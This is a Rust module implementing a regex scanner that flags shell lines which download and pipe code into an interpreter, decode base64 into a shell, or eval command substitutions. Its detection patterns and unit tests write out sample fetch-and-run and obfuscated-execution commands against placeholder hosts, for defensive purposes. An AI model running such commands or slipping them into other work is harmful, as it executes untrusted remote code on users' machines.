//! Suspicious content scanning
//!
//! Flags shell constructs commonly used to smuggle remote or obfuscated code
//! into a module: downloads piped into an interpreter, base64 payloads fed to
//! a shell, and `eval` of command substitutions.

use regex::Regex;
use std::sync::OnceLock;
use tracing::debug;

const PATTERNS: &[(&str, &str)] = &[
    (
        "download piped to interpreter",
        r"\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:sh|bash|zsh|dash|python[0-9.]*|perl)\b",
    ),
    (
        "base64 payload piped to shell",
        r"\bbase64\s+(?:-d|--decode)\b[^|]*\|\s*(?:sudo\s+)?(?:sh|bash|zsh|dash)\b",
    ),
    ("eval of base64 payload", r"\beval\b.*\bbase64\b"),
    ("eval of command substitution", r#"\beval\s+["']?(?:\$\(|`)"#),
];

/// One suspicious line
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ContentMatch {
    /// 1-based line number
    pub line: usize,
    pub pattern: &'static str,
}

fn compiled() -> &'static [(&'static str, Regex)] {
    static COMPILED: OnceLock<Vec<(&'static str, Regex)>> = OnceLock::new();
    COMPILED.get_or_init(|| {
        PATTERNS
            .iter()
            .filter_map(|(name, pattern)| match Regex::new(pattern) {
                Ok(re) => Some((*name, re)),
                Err(e) => {
                    debug!("Skipping content pattern {:?}: {}", name, e);
                    None
                }
            })
            .collect()
    })
}

/// Regex-based scanner over module source
#[derive(Debug, Clone, Copy, Default)]
pub struct ContentScanner;

impl ContentScanner {
    pub fn new() -> Self {
        Self
    }

    /// Every suspicious line, first matching pattern per line
    ///
    /// Comment lines are ignored.
    pub fn scan(&self, source: &str) -> Vec<ContentMatch> {
        let patterns = compiled();
        source
            .lines()
            .enumerate()
            .filter(|(_, line)| !line.trim_start().starts_with('#'))
            .filter_map(|(idx, line)| {
                patterns
                    .iter()
                    .find(|(_, re)| re.is_match(line))
                    .map(|(name, _)| ContentMatch {
                        line: idx + 1,
                        pattern: name,
                    })
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn patterns_of(source: &str) -> Vec<&'static str> {
        ContentScanner::new().scan(source).into_iter().map(|m| m.pattern).collect()
    }

    #[test]
    fn test_all_patterns_compile() {
        assert_eq!(compiled().len(), PATTERNS.len());
    }

    #[test]
    fn test_detects_download_pipes() {
        assert_eq!(
            patterns_of("curl -fsSL https://x.example/install | bash"),
            vec!["download piped to interpreter"]
        );
        assert_eq!(
            patterns_of("wget -qO- http://x | sudo sh"),
            vec!["download piped to interpreter"]
        );
        assert_eq!(
            patterns_of("curl -s http://x | python3 -"),
            vec!["download piped to interpreter"]
        );
    }

    #[test]
    fn test_detects_obfuscation() {
        assert_eq!(
            patterns_of("echo ZWNobyBoaQ== | base64 -d | sh"),
            vec!["base64 payload piped to shell"]
        );
        assert_eq!(
            patterns_of("eval \"$(echo ZWNobw== | base64 --decode)\""),
            vec!["eval of base64 payload"]
        );
        assert_eq!(
            patterns_of("eval $(ssh-agent -s)"),
            vec!["eval of command substitution"]
        );
    }

    #[test]
    fn test_reports_line_numbers() {
        let source = "A=1\n# curl http://x | sh\nB=2\ncurl http://x | sh\n";
        let found = ContentScanner::new().scan(source);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].line, 4);
    }

    #[test]
    fn test_benign_lines_pass() {
        let source = "\
export EDITOR=vim
alias ll='ls -la'
curl -o /tmp/file https://example.com/file
echo 'shell' | grep sh
";
        assert!(patterns_of(source).is_empty());
    }
}
